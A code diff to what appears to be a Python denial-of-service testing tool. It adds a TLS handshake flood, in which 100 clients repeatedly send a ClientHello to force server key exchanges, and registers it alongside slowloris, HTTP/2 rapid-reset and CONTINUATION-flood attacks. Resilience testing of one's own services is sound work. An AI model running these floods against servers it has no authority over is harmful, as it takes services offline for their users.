@@ -12,6 +12,7 @@ import pathlib
 import random
 import signal
 import socket
+import ssl
 import struct
 import time
 
@@ -25,7 +26,7 @@ IMAGE = "/public/silly-test-image.jpg"
 FILE = "/read"
 PAUSE = 0.2  # Seconds before a connection is opened again.
 
-Target = collections.namedtuple("Target", "host port workers admin")
+Target = collections.namedtuple("Target", "host port tls workers admin")
 
 
 def frame(kind, flags, stream, payload=b""):
@@ -471,6 +472,37 @@ async def held_uploads(target, counts, rate, size, client):
     await again(counts, 150, once)
 
 
+# TLS.
+
+
+def client_hello():
+    """The first message of a TLS handshake. Sent again, it costs the server a new key exchange and a signature, and the client nothing."""
+    context = ssl.create_default_context()
+    out = ssl.MemoryBIO()
+    tls = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname="attacked.example")
+    try:
+        tls.do_handshake()
+    except ssl.SSLWantReadError:
+        pass
+    return out.read()
+
+
+async def handshakes(target, counts):
+    """100 clients that each begin a TLS handshake, wait for the answer, close the connection, and begin again without a pause."""
+    hello = client_hello()
+
+    async def once():
+        while True:
+            async with Connection(target.host, target.tls, counts) as c:
+                # A reset frees the client's port.
+                c.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+                await c.send(hello)
+                await c.read()
+                counts["answers"] += 1
+
+    await again(counts, 100, once)
+
+
 # The other ports.
 
 
@@ -538,7 +570,7 @@ ATTACKS = {
     for function in (
         slow_heads, half_open_http1, slow_bodies_http1, slow_readers_http1, idle_connections, large_heads, tiny_chunks, many_trailers,
         half_open_http2, slow_bodies_http2, slow_readers_http2, full_windows, small_parts, rapid_reset, made_you_reset, tunnel_trailers,
-        continuation_flood, header_bomb, frame_floods,
+        continuation_flood, header_bomb, frame_floods, handshakes,
         worker_port, admin_port, flood, slowhttptest)
 }
 
